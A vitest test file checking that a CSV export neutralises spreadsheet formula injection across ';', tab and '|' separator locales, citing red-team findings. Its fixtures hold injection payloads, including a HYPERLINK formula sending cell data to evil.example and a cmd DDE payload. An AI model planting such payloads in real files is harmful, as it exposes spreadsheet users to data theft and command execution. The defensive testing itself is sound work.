// The CSV export read as Excel reads it in `;`-separator locales (German, French, …): no cell may start a formula.
import { describe, expect, it } from 'vitest';
import { csvField, exportCsv } from '../../../core/export';
import { annotation, article } from './fixtures';

/**
 * Rows of `text` split at `sep`, the way Excel opens a .csv in a locale whose list separator it is: a quote opens a
 * quoted field only at the start of a field; anywhere else it is a character, and a line break ends the row.
 */
function readWith(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i <= text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      while (i < text.length && !(text[i] === '"' && text[i + 1] !== '"')) {
        cell += text[i];
        i += text[i] === '"' ? 2 : 1;
      }
      i++;
    }
    while (i < text.length && text[i] !== sep && text[i] !== '\n' && text[i] !== '\r') cell += text[i++];
    row.push(cell);
    if (text[i] === sep) i++;
    else {
      rows.push(row);
      row = [];
      i += text.startsWith('\r\n', i) ? 2 : 1;
    }
  }
  return rows;
}

// What a spreadsheet may skip before a formula start, and the full-width forms of the starts (red team 29).
const formulaStart = /^[\s\p{Z}\p{Cc}\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

describe('CSV read with another separator', () => {
  // The red team's note (redteam22 W1): in a `;` reading it split into a cell "=HYPERLINK(A2&A3)" that ran.
  const notes = [
    'see;=HYPERLINK(A2&A3);',
    'see; =HYPERLINK("https://evil.example/x?d="&A3)',
    'tab\t=HYPERLINK(A2)',
    "line one\n@SUM(1+1)*cmd|' /C calc'!A0",
    'mixed ;\t+1+1',
    // Red team 29: full-width starts, and a NUL or NEL before the formula.
    '\uff1dHYPERLINK("https://evil.example")',
    'see;\uff0b1+1',
    '\u0000=HYPERLINK(A2)',
    '\u0085=HYPERLINK(A2)',
    'line\u0085@SUM(1)',
    // A `|` list separator (a system setting Excel follows).
    'a|=HYPERLINK(A2)|b',
    '\u3000\uff20SUM(1)',
  ];

  it('no cell of a `;`- or tab-separated reading starts a formula (failed before: "=HYPERLINK(A2&A3)" was a cell)', () => {
    const csv = exportCsv({
      articles: [article],
      annotations: notes.map((note) => annotation({ exact: 'ok', body: { note, tags: [], color: 'yellow' } })),
    }).replace(/^\uFEFF/, '');
    for (const sep of [';', '\t', '|', ',']) {
      const cells = readWith(csv, sep).flat();
      expect(cells.length).toBeGreaterThan(5);
      for (const cell of cells)
        expect(cell, `${JSON.stringify(sep)} reading: ${JSON.stringify(cell)}`).not.toMatch(formulaStart);
    }
  });

  it('drops control characters from a cell (a NEL becomes a line break) and keeps the words around them', () => {
    expect(csvField('Smith\u0000 said')).toBe('Smith said');
    expect(csvField('first\u0085second')).toBe('"first\nsecond"');
    expect(csvField('first\u0085@SUM(1)')).toBe(`"first\n'@SUM(1)"`);
    expect(csvField('\uff1d1+1')).toBe("'\uff1d1+1");
    // Full-width letters and a full-width sign inside a sentence are text, untouched.
    expect(csvField('\uff21\uff22 costs \uff0b5')).toBe('\uff21\uff22 costs \uff0b5');
  });

  it('quotes a field holding `;` or a tab, and keeps plain text after a separator as written', () => {
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a\tb')).toBe('"a\tb"');
    expect(csvField('Paris; Berlin')).toBe('"Paris; Berlin"');
    expect(csvField('see;=HYPERLINK(A2)')).toBe(`"see;'=HYPERLINK(A2)"`);
    expect(csvField('plain, text')).toBe('"plain, text"');
    expect(csvField('a|=1+1')).toBe(`"a|'=1+1"`);
    expect(csvField('either | or')).toBe('"either | or"');
  });
});
